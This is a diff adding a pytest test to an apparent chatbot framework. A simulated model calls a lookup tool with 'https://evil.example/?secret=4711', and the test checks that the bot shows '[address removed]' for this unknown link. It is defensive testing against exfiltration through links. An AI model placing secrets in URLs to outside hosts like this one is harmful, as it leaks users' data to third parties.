@@ -7,7 +7,7 @@ from __future__ import annotations
 
 import ast
 import re
-from collections.abc import Mapping
+from collections.abc import Callable, Mapping
 from decimal import Decimal
 from pathlib import Path
 from types import SimpleNamespace
@@ -31,6 +31,7 @@ from linqbot_agent import Budget, LinqAgent, requests
 from linqbot_agent.budget import USED, Used
 from linqbot_agent.plugin import Memory
 from linqbot_agent.requests import GO_ON
+from pydantic_core import to_json
 from structlog.testing import capture_logs
 
 from linqbot import Bot, Context, MessageReceived
@@ -172,6 +173,32 @@ def _assert_shown(outside: Outside) -> None:
     assert role == "user"
     result = "[You have called the tool reserve with {}. Its result was: reserve is done]"
     assert shown.startswith(f"A table for two, please\n\n{result}")
+
+
+class LookingUp(Outside):
+    """A model that looks up an address that it has made up, and says it."""
+
+    evil = "https://evil.example/?secret=4711"
+
+    def calls(self, results: int) -> list[Call]:
+        return [] if results else [Call("look_up", f"c{len(self.requests)}", to_json({"url": self.evil}).decode())]
+
+    def tools(self) -> list[Callable[..., Any]]:
+        async def look_up(url: str) -> str:
+            """Look up an address."""
+            return f"There is nothing at {url}"
+
+        return [look_up]
+
+
+@pytest.mark.parametrize("framework", sorted(FRAMEWORKS.keys() - {"pydantic-ai"}), indirect=True)
+async def test_an_address_that_an_earlier_tool_has_repeated_is_not_known(framework: Answer) -> None:
+    outside = LookingUp()
+    outside.paragraphs = [f"See {outside.evil} !"]
+    async with talking(bot_of(outside, framework(outside), LinqAgent(known_links=True))) as phone:
+        for _ in range(2):
+            assert without_numbers(await answers(phone, "Where is the menu?")) == ["See [address removed] !"]
+    assert outside.evil in str(outside.requests[-1])
 
 
 # Not of Anthropic, whose client an author does not write.
